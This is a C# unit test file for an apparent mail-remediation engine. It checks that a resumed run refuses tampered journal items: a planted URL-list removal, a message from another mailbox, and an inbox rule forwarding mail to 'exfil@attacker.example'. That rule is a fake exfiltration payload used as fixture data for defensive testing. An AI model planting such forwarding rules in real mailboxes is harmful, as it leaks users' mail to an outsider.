using AirRemediation.Engine.Actions;
using AirRemediation.Engine.Auth;
using AirRemediation.Engine.Execution;
using AirRemediation.Engine.Kinds;
using AirRemediation.Engine.Kinds.BlockUrl;
using AirRemediation.Engine.Kinds.DisableForwarding;
using AirRemediation.Engine.Kinds.SoftDelete;
using AirRemediation.Engine.Kinds.UrlBlock;
using AirRemediation.Engine.Store;
using AirRemediation.Engine.Tests.Harness;
using AirRemediation.Simulator.Scenario;
using Xunit;

namespace AirRemediation.Engine.Tests.Approvals;

/// <summary>
/// Issue 14 item 2, "item operations must belong to the action's kind": a run killed mid-way leaves open items that no
/// pin covers. Whoever can write the store could add one that steers the resumed run — a "remove" in a URL block, a
/// re-created forwarding rule in a disable, a message of another mailbox in a soft delete. Each is refused as Tampered
/// when the run resumes, and nothing of it reaches the tenant.
/// </summary>
public sealed class JournalOperationTests
{
    /// <summary>An action of <paramref name="request"/>'s kind left Running by a killed session (its lease already expired), with <paramref name="items"/> planned.</summary>
    private static async Task<ActionRecord> KilledRunAsync(AirSession session, NormalizedRequest request, params NewItem[] items)
    {
        var kind = KindRegistry.For(request.Kind);
        var store = await session.GetStoreAsync(default);
        var created = await store.CreateActionAsync(new NewAction
        {
            Kind = request.Kind,
            InitialState = ActionState.Running,
            DedupeKey = kind.DedupeKey(request.Request),
            ParametersJson = kind.ToJson(request.Request),
            Summary = kind.Describe(request.Request),
            Lease = new LeaseRequest("killed-host/1/dead", TimeSpan.FromTicks(1)),
        }, AuditContexts.For(session));
        await store.AddItemsAsync(created.Action.Id, items);
        return created.Action;
    }

    [Fact]
    public async Task A_remove_planted_in_a_URL_block_is_refused_and_the_entry_stays()
    {
        await using var t = await ApprovalTenant.StartAsync(doc => doc.TablEntries.Add(new TablEntrySpec { Value = "partner-portal.example" }));
        var app = await t.AppAsync();
        var block = Remediation.Normalize(app, new UrlBlockRequest { Urls = ["phish-kit.example"] });
        var action = await KilledRunAsync(app, block,
            new NewItem(UrlItemData.Key("phish-kit.example"), "phish-kit.example", new UrlItemData("phish-kit.example", UrlOp.Add).ToJson()),
            new NewItem(UrlItemData.Key("partner-portal.example"), "partner-portal.example", new UrlItemData("partner-portal.example", UrlOp.Remove).ToJson()));

        var run = await Remediation.ResumeAsync(app, action.Id, RunSink.None, default);

        Assert.Equal(1, t.Blocked("partner-portal.example"));
        Assert.Equal(1, t.Blocked("phish-kit.example"));
        Assert.Equal(1, run.Failed);
        var planted = await (await app.GetStoreAsync(default)).GetItemAsync(action.Id, UrlItemData.Key("partner-portal.example"));
        Assert.Equal(ItemState.Failed, planted!.State);
        Assert.Contains("'Remove', which is not an operation of this action", planted.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_rule_re_creation_planted_in_a_forwarding_disable_is_refused_and_no_rule_is_created()
    {
        await using var t = await ApprovalTenant.StartAsync();
        var app = await t.AppAsync();
        var request = Remediation.Normalize(app, new ForwardingRequest { Mailboxes = ["adele@contoso.com"] });
        var rulesBefore = t.Sim.State.Mailboxes.Single(m => m.Owner.Mail == "adele@contoso.com").Rules.Count;
        var planted = new ForwardingItemData("adele@contoso.com", ForwardingItemKind.InboxRule, ForwardingOp.UndoCreate, RuleName: "Sync",
            Targets: ["exfil@attacker.example"], Before: """{"displayName":"Sync","sequence":1,"isEnabled":true,"conditions":{},"actions":{"forwardTo":[{"emailAddress":{"address":"exfil@attacker.example"}}]}}""");
        var action = await KilledRunAsync(app, request, new NewItem("adele@contoso.com|rule|planted", "adele@contoso.com", planted.ToJson()));

        var run = await Remediation.ResumeAsync(app, action.Id, RunSink.None, default);

        Assert.Equal(rulesBefore, t.Sim.State.Mailboxes.Single(m => m.Owner.Mail == "adele@contoso.com").Rules.Count);
        Assert.True(run.Failed >= 1);
        var item = await (await app.GetStoreAsync(default)).GetItemAsync(action.Id, "adele@contoso.com|rule|planted");
        Assert.Equal(ItemState.Failed, item!.State);
        Assert.Contains("'UndoCreate', which is not an operation of this action", item.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_message_of_another_mailbox_planted_in_a_soft_delete_is_refused_and_not_moved()
    {
        await using var t = await ApprovalTenant.StartAsync();
        var app = await t.AppAsync();
        var request = Remediation.Normalize(app, new SoftDeleteRequest { Messages = [new MessageTarget("adele@contoso.com", "<phish-0001@fabrikam-payments.example>")] });
        var ceo = t.Sim.State.Mailboxes.Single(m => m.Owner.Mail == "megan@contoso.com");
        var victim = new MessageItemData("megan@contoso.com", "AAMkAD-planted", "<board-minutes@contoso.com>", "Board minutes", null, null);
        var action = await KilledRunAsync(app, request, new NewItem(MessageItemData.Key("megan@contoso.com", "AAMkAD-planted"), "megan@contoso.com", victim.ToJson()));
        var movedBefore = ceo.Messages.Sum(m => m.TimesMoved);

        await Remediation.ResumeAsync(app, action.Id, RunSink.None, default);

        Assert.Equal(movedBefore, ceo.Messages.Sum(m => m.TimesMoved));
        var item = await (await app.GetStoreAsync(default)).GetItemAsync(action.Id, MessageItemData.Key("megan@contoso.com", "AAMkAD-planted"));
        Assert.Equal(ItemState.Failed, item!.State);
        Assert.Contains("outside this action's mailboxes or messages", item.Reason, StringComparison.Ordinal);
    }
}
